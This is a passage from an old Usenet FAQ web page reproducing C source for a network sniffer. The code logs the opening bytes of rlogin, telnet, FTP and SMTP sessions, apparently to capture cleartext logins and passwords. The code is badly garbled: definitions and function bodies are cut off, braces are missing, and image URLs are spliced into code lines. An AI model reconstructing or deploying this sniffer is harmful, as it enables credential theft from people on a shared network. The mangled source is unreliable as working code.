#define CHUNKSIZE   4096        /* device buffer size */int     if_fd = -1;
int     Packet[CHUNKSIZE+32];

void Pexit(err,msg)
int err; char *msg;
{ perror(msg);
  exit(err); }

void Zexit(err,msg)
int err; char *msg;
{ fprintf(ERR,msg);
  exit(err); }

#define IP          ((struct ip *)Packet)
#define IP_OFFSET   (0x1FFF)
#define SZETH       (sizeof(struct ether_header))
#define IPLEN       (ntohs(ip->ip_len))
#define IPHLEN      (ip->ip_hl)
#define TCPOFF      (tcph->th_off)
#define IPS         (ip->ip_src)
#define IPD         (ip->ip_dst)
#define TCPS        (tcph->th_sport)
#define TCPD        (tcph->th_dport)
#define IPeq(s,t)   ((s).s_addr == (t).s_addr)

#define TCPFL(FLAGS)(tcph->th_flags & (FLAGS))

#define MAXBUFLEN  (128)
time_t  LastTIME = 0;

struct CREC {
     struct CREC *Next,
     time_t  Time;              /* start time */
     struct in_addr SRCip,
     u_int   SRCport,           /* src/dst ports */
     u_char  Data[MAXBUFLEN+2]; /* important stuff :-) */
     u_int   Length;            /* current data length */
     u_int   PKcnt;             /* # pkts */
     u_long  LASTseq;

struct CREC *CLroot = NULL;

char *Symaddr(ip)
register struct in_addr ip;
{ register struct hostent *he =
      gethostbyaddr((char *)&ip.s_addr, sizeof(struct

  return( (he)?(he->h_name):(inet_ntoa(ip)) );

char *TCPflags(flgs)
register u_char flgs;
{ static char iobuf[8];
#define SFL(P,THF,C) iobuf[P]=((flgs & THF)?C:'-')

  SFL(0,TH_FIN, 'F');
  SFL(1,TH_SYN, 'S');
  SFL(2,TH_RST, 'R');
  SFL(4,TH_ACK, 'A');
  SFL(5,TH_URG, 'U');

char *SERVp(port)
register u_int port;
{ static char buf[10];register char *p;

   switch(port) {
     case IPPORT_LOGINSERVER: p="rlogin"; break;
     case IPPORT_TELNET:      p="telnet"; break;
     case IPPORT_SMTP:        p="smtp"; break;
     case IPPORT_FTP:         p="ftp"; break;
     default: sprintf(buf,"%u",port); p=buf; break;

char *Ptm(t)
register time_t *t;
{register char *p = ctime(t);
  p[strlen(p)-6]=0; /* strip " YYYY\n" */

char *NOWtm()
{ time_t tm;
  return( Ptm(&tm) );

#define MAX(a,b) (((a)>(b))?(a):(b))
#define MIN(a,b) (((a)<(b))?(a):(b))

/* add an item */
  register struct CREC *CLtmp = \
        (struct CREC *)malloc(sizeof(struct CREC)); \
  time(&(CLtmp->Time) ); \
  CLtmp->SRCip.s_addr = SIP.s_addr; \
  CLtmp->DSTip.s_addr = DIP.s_addr; \
  CLtmp->SRCport = SPORT; \
  CLtmp->DSTport = DPORT; \
  CLtmp->Length = MIN(LEN,MAXBUFLEN); \
  bcopy( (u_char *)DATA, (u_char *)CLtmp->Data, CLtmp->Length); \
  CLtmp->PKcnt = 1; \
  CLtmp->Next = CLroot; \
  CLtmp->Last = NULL; \
  CLroot = CLtmp; \

register struct CREC *GET_NODE(Sip,SP,Dip,DP)
register struct in_addr Sip,Dip;
register u_int SP,DP;
{ register struct CREC *CLr = CLroot;

  while(CLr != NULL) {
    if( (CLr->SRCport == SP) && (CLr->DSTport == DP) &&
        IPeq(CLr->SRCip,Sip) && IPeq(CLr->DSTip,Dip) )
    CLr = CLr->Next;

 bcopy((u_char *)DATA, (u_char *)&CL->Data[CL->Length],LEN); \
 CL->Length += LEN; \

#define PR_DATA(dp,ln) {    \
  register u_char lastc=0; \
  while(ln-- >0) { \
     if(*dp < 32) {  \
        switch(*dp) { \case '\0': if((lastc=='\r') || (lastc=='\n') || lastc=='\0')
                        break; \
            case '\r': \
            case '\n': fprintf(LOG,"\n     : "); \
                        break; \
            default  : fprintf(LOG,"^%c", (*dp + 64)); \
                        break; \
        } \
     } else { \
        if(isprint(*dp)) fputc(*dp,LOG); \
        else fprintf(LOG,"(%d)",*dp); \
     } \
     lastc = *dp++; \
  } \
  fflush(LOG); \

voidEND_NODE(CLe,d,dl,msg)
register struct CREC *CLe;
register u_char *d;
registerint dl;
register char *msg;
   fprintf(LOG,"\n-- TCP/IP LOG -- TM: %s --\n", Ptm(&CLe->Time));
   fprintf(LOG," PATH: %s(%s) =>",
   fprintf(LOG," %s(%s)\n", Symaddr(CLe->DSTip),SERVp(CLe->DSTport));
   fprintf(LOG," STAT: %s, %d pkts, %d bytes [%s]\n",
   fprintf(LOG," DATA: ");
    { register u_int i = CLe->Length;
      register u_char *p = CLe->Data;

   fprintf(LOG,"\n-- \n");

   if(CLe->Next != NULL)
    CLe->Next->Last = CLe->Last;
   if(CLe->Last != NULL)
    CLe->Last->Next = CLe->Next;
    CLroot =CLe->Next;

/* 30 mins (x 60 seconds) */
#define IDLE_TIMEOUT 1800
#define IDLE_NODE() { \
  time_t tm; \
  time(&tm); \
  if(LastTIME<tm) {\
     register struct CREC *CLe,*CLt = CLroot; \
     while(CLe=CLt) { \
       CLt=CLe->Next; \
       if(CLe->Time <tm) \
           END_NODE(CLe,(u_char *)NULL,0,"IDLE TIMEOUT"); \
     } \
  } \

void filter(cp, pktlen)
register char *cp;

User Contributions:

Comment about this article, ask questions, or add new information about this topic:

Part1 - Part2 - Part3 - Part4

[Usenet FAQs | Web FAQs | Documents | RFC Index ]

Send corrections/additions to the FAQMaintainer:
"FAQ Commentsaddress" <>,Harlequin<>

Last Update March 27 2014 @ 02:11 PM